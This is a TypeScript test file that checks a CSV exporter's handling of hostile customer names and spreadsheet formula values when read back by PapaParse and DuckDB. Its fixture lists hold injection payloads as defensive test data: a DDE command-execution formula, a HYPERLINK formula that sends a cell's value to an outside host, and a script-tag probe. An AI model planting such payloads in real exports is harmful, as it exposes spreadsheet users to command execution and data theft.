import { toCsv } from "rfm-kit/export";
import { describe, expect, it } from "vitest";
import { readByDuckDb, readByPapa } from "./read-back.js";

/** What customers call themselves. */
const HOSTILE = [
  "<script>alert(1)</script>",
  'Ada "the Countess" Lovelace',
  '"',
  '""',
  "Tea, Milk & Sons",
  "a;b\tc|d",
  "two\nlines",
  "two\r\nlines",
  "three\n\nlines\n",
  "line\u2028separator",
  "مرحبا، عالم",
  "\u202Eevil\u202C",
  "👩‍👩‍👧 family",
  "e\u0301 and é",
  "007",
  "0012.50",
  "1e5",
  " blank around ",
  "null",
  "NULL",
  "NaN",
  "'quoted'",
  "O'Hara",
  "\\",
  '\\"',
  "a\\nb",
  "#comment",
  "true",
  "2024-02-30",
];

/** What a spreadsheet would calculate. */
const FORMULAS = [
  '=HYPERLINK("http://example.com/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-5",
  "@SUM(1)",
  "\t=1",
  "\n=1",
  " =1",
  "\uFEFF=1",
  "\u200B=1",
  "\u202E=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠1",
  "﹢1",
];

const rows = [
  ...HOSTILE.map((text, i) => ({ id: text, "the name": `n ${i}`, spent: i + 0.25, note: text })),
  ...FORMULAS.map((text, i) => ({ id: text, "the name": text, spent: -i, note: "" })),
];
const asText = (text: string) => (FORMULAS.includes(text) ? `'${text}` : text);
const expected = rows.map((row) => ({
  id: asText(row.id),
  "the name": asText(row["the name"]),
  spent: String(row.spent),
  note: row.note,
}));

describe("what toCsv writes of hostile rows", () => {
  it.each([",", ";", "\t", "|"])("is read back by PapaParse with the delimiter %j", (delimiter) => {
    expect(readByPapa(toCsv(rows, { delimiter }), delimiter)).toEqual(expected);
    const kept = readByPapa(toCsv(rows, { delimiter, formulas: "keep", newline: "\n" }), delimiter);
    expect(kept).toEqual(rows.map((row) => ({ ...row, spent: String(row.spent) })));
  });

  it.each([",", ";", "\t", "|"])("is read back by DuckDB with the delimiter %j", async (delimiter) => {
    expect(await readByDuckDb(toCsv(rows, { delimiter }), delimiter)).toEqual(expected);
    const kept = await readByDuckDb(toCsv(rows, { delimiter, formulas: "keep", bom: true }), delimiter);
    expect(kept).toEqual(rows.map((row) => ({ ...row, spent: String(row.spent) })));
  });
});
